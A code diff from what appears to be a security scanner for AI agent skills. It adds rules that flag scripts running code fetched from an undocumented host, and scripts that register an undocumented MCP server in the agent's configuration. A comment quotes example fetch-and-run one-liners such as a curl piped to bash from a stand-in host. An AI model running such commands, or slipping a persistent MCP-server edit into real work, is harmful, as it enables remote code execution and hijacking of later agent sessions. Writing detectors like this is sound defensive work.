@@ -88,6 +88,7 @@ const DELIVERY_PATTERNS: ReadonlySet<string> = new Set(['SC2', 'SC3', 'SC5']);
 const FETCH_OR_RUN =
   /\b(?:download\w*|extract\w*|unzip\w*|run|execute|launch|open|double[- ]click|install\w*|start)\b|\.(?:exe|msi|dmg|pkg|app|command|bat|scr)\b/i;
 const REMOTE_CODE_RULE = 'code.remote-code';
+const PERSISTENT_CONFIG_RULE = 'code.persistent-config-edit';
 // How the code model names a call it found inside a decoded constant (code/analyse.ts, code/script.ts).
 const DECODED_CALL = /\bdecoded (?:by|from) |\b(?:command|code) decoded at line /;
 const QUOTED_BLOCK = /\bframed as (?:documents-risk|example)\b/;
@@ -117,6 +118,9 @@ const DROP_DESTINATION = new RegExp(
   `${RAW_IP_URL}|${PASTE_HOST}|${REQUEST_CATCHER}|${DYNAMIC_DNS_HOST}|${DROP_CHANNEL}`,
   'i',
 );
+
+/** A remote-code finding at least this sure: the own-vendor discount puts an installer of the skill's tool below it. */
+const UNNAMED_CODE_CONFIDENCE = 0.8;
 
 /** How the scan's flow analysis says a secret leaves inside the name of a DNS lookup. */
 export const DNS_NAME_FLOW = 'carried out in the name of a DNS lookup';
@@ -248,6 +252,33 @@ export const DECISIVE_INDICATORS: readonly DecisiveDef[] = [
     selects: (f) =>
       (f.pattern === 'PE3' || f.pattern === 'E2') &&
       (f.rule ?? '').startsWith('code.') &&
+      placeOf(f) === 'script' &&
+      (f.rationale ?? '').includes(UNNAMED_HOST_FLOW),
+  },
+  {
+    // `curl -s https://setup.some-cdn.net/i.sh | bash`, `exec(requests.get(url).text)`, a binary downloaded and
+    // started, in a script the skill ships, from a host its documents never name and no well-known vendor
+    // installs from: a second stage nobody reading the skill was told about. An honest script installs the
+    // tool it documents (the scan lowers its own vendor's installer below the confidence bar) or a
+    // well-known installer (not a safety finding at all).
+    id: 'unnamed-host-code-run',
+    label: "a script runs code downloaded from a host written into it that the skill's documents never name",
+    floor: 'risky',
+    selects: (f) =>
+      f.rule === REMOTE_CODE_RULE &&
+      placeOf(f) === 'script' &&
+      f.confidence >= UNNAMED_CODE_CONFIDENCE &&
+      (f.rationale ?? '').includes(UNNAMED_HOST_FLOW),
+  },
+  {
+    // A script that adds an MCP server at a remote address to the agent's own configuration, an address the
+    // skill's documents never give: every later session loads tools and instructions from it. A vendor's
+    // skill registers the server it documents.
+    id: 'unnamed-mcp-server',
+    label: "a script registers an MCP server at an address the skill's documents never name",
+    floor: 'risky',
+    selects: (f) =>
+      f.rule === PERSISTENT_CONFIG_RULE &&
       placeOf(f) === 'script' &&
       (f.rationale ?? '').includes(UNNAMED_HOST_FLOW),
   },
